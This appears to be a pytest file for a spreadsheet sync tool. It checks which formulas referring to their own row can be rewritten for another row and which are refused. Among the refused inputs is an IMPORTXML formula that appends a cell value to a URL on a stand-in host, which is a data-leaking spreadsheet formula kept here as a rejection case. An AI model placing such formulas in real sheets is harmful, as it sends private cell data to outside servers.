"""Formulas of staff that can be given back in another row, and those that cannot."""

from __future__ import annotations

import pytest

from sync.core.own_row import forms, given_back, kept
from tests.support.drawn import drawn

#: Row 5 of the sheet; the amount stands in C, the note in AB.
PLACES = {"amount": 2, "note": 27}


@pytest.mark.parametrize(
    ("typed", "in_row_9"),
    [
        ("=C5*2", "=C9*2"),
        ("=$C5&AB$5", "=$C9&AB9"),
        ("=SUM(C:C)/C5", "=SUM(C:C)/C9"),
        ("=SUM(C5:AB5)", "=SUM(C9:AB9)"),
        ("=TODAY()+3", "=TODAY()+3"),
        ('="C4 and "&C5', '="C4 and "&C9'),
        ("=LOG10(C5)", "=LOG10(C9)"),
        ("=VLOOKUP(C5,'My list'!$A$2:$F$90,3,FALSE)", "=VLOOKUP(C9,'My list'!$A$2:$F$90,3,FALSE)"),
    ],
)
def test_what_looks_at_its_own_row_fits_any_row(typed: str, in_row_9: str) -> None:
    form = kept(typed, 4, PLACES)
    assert form is not None
    assert given_back(form, 8, PLACES) == in_row_9


def test_a_column_that_moved_is_found_and_one_that_is_gone_gives_nothing_back() -> None:
    form = kept("=C5*2", 4, PLACES)
    assert form is not None
    assert given_back(form, 4, {"amount": 5}) == "=F5*2"
    assert given_back(form, 4, {"note": 5}) is None


@pytest.mark.parametrize(
    "typed",
    ["=C4+C5", "=SUM(C2:C90)", "=D5", "=SUM(5:5)", '=IMPORTXML("https://x.test/?"&C5,"//a")', '=image("https://x")'],
)
def test_what_looks_at_other_rows_or_columns_or_sends_something_out_is_not_kept(typed: str) -> None:
    assert kept(typed, 4, PLACES) is None


def test_text_that_begins_like_a_formula_is_none() -> None:
    """It reads the same as a value: customers write such things, and they stay text."""
    typed = drawn("""
        _key | _stamp  | order | note       | amount
        -----+---------+-------+------------+-------
             | #header | Order | Note       | Amount
        A    | A@1     | #1    | =C2*2      | 10
        B    | B@1     | #2    | =1+1       | 20
    """)
    valued = drawn("""
        _key | _stamp  | order | note       | amount
        -----+---------+-------+------------+-------
             | #header | Order | Note       | Amount
        A    | A@1     | #1    | 20         | 10
        B    | B@1     | #2    | =1+1       | 20
    """)
    assert forms(typed, valued, {"amount": 2}) == {"A": {"note": ("=C2*2", "=⟦amount⟧⟦row⟧*2")}, "B": {}}
